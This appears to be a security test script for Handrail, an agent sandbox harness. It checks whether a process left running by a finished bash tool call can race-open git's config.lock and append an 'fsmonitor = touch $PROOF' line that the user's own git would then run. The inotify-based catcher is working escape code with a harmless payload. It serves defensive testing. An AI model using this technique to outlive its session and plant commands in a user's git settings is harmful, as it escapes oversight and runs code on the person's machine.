# What a finished call has left running opens each file that Handrail makes on its way to git's settings (config.lock, and whatever else comes up in
# git's folder), holds it for writing, and writes into it once it has become the settings. No line of it reaches the person's git, not for a moment.
needs walls python3
source "$ATTACK/gitlib.sh"
repository "$SPACE"
git init -q --bare "$HOME/remote.git"; git remote add origin "$HOME/remote.git"; git push -q -u origin main
cat >catch.py <<EOF
import ctypes, os, sys, threading, time
held = {}
def spin(name):
    while not os.path.exists("stop"):
        try: fd = os.open(name, os.O_RDWR)
        except OSError: continue
        held.setdefault(os.fstat(fd).st_ino, (name, fd)); open("caught", "a").write("%s %d\n" % (name, os.fstat(fd).st_ino))
        time.sleep(0.002)
def watch():
    libc = ctypes.CDLL(None); n = libc.inotify_init(); libc.inotify_add_watch(n, b".git", 0x100 | 0x80)
    while True:
        b = os.read(n, 65536); i = 0
        while i < len(b):
            l = int.from_bytes(b[i+12:i+16], "little"); name = b[i+16:i+16+l].rstrip(b"\0").decode(); i += 16 + l
            if name.startswith(("index", "COMMIT", "HEAD", "ORIG", "refs", "objects")): continue
            try: fd = os.open(".git/" + name, os.O_RDWR)
            except OSError as e: open("caught", "a").write("missed %s %s\n" % (name, e.errno)); continue
            held.setdefault(os.fstat(fd).st_ino, (name, fd)); open("caught", "a").write("watch %s %d\n" % (name, os.fstat(fd).st_ino))
for n in (".git/config.lock",): threading.Thread(target=spin, args=(n,), daemon=True).start()
threading.Thread(target=watch, daemon=True).start()
open("ready", "w").close()
while not os.path.exists("go"): time.sleep(0.01)
while not os.path.exists("stop"):
    for ino, (name, fd) in list(held.items()):
        try: os.lseek(fd, 0, 2); os.write(fd, b"[core]\n\tfsmonitor = touch $PROOF\n")
        except OSError as e: open("caught", "a").write("no write %s %s\n" % (name, e.errno))
    open("wrote", "a").write("%d\n" % len(held)); time.sleep(0.2)
EOF
mkfifo "$SCRATCH/in"
handrail call - <"$SCRATCH/in" >"$SCRATCH/run" 2>"$SCRATCH/err" &
began+=("$!")
exec 7>"$SCRATCH/in"
answered() { until_true 25 test "$(grep -c tool_result "$SCRATCH/run")" -ge "$1"; }
asks() { n=$((${n:-0} + 1)); request bash "$(jq -cn --arg c "$1" '{command: $c}')" >&7; local m=$n; until_true 25 eval "[ \$(grep -c tool_result '$SCRATCH/run') -ge $m ]" || dead "no answer to: $1"; }
asks 'setsid python3 catch.py >/dev/null 2>&1 & until [ -e ready ]; do sleep 0.02; done'
for i in 1 2 3 4 5 6; do asks "git switch -q -c b$i; git branch -q --set-upstream-to=origin/main; git config user.name Kim$i; sleep 0.2"; done
grep -q 'merge = refs/heads/main' .git/config && grep -q b6 .git/config || dead "no line of a call came into the settings: $(cat .git/config)"
ls -i .git/config >>"$SCRATCH/log"
touch go
until_true 5 test -s wrote || dead "nothing writes"
for i in 1 2 3 4 5 6 7 8; do git status >/dev/null 2>&1 || true; grep -q fsmonitor .git/config && broke "a line stands in the person's settings of git" && break; sleep 0.3; done
cat caught >>"$SCRATCH/log" 2>/dev/null || true
none "$PROOF" "the person's git ran what was written through a file that Handrail had made on its way to git's settings"
touch stop; exec 7>&-
# The control: outside, the same catches the lock of the person's own git.
if ((${#broken[@]} == 0)); then
	sleep 1; rm -f stop go wrote ready caught
	start python3 catch.py; until_true 5 test -e ready
	for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20; do git config user.name "K$i"; done
	touch go; until_true 5 test -s wrote; sleep 0.3; git status >/dev/null 2>&1 || true; touch stop
	[ -e "$PROOF" ] || dead "this catches nothing outside either: $(tail -n 3 caught)"
fi
held
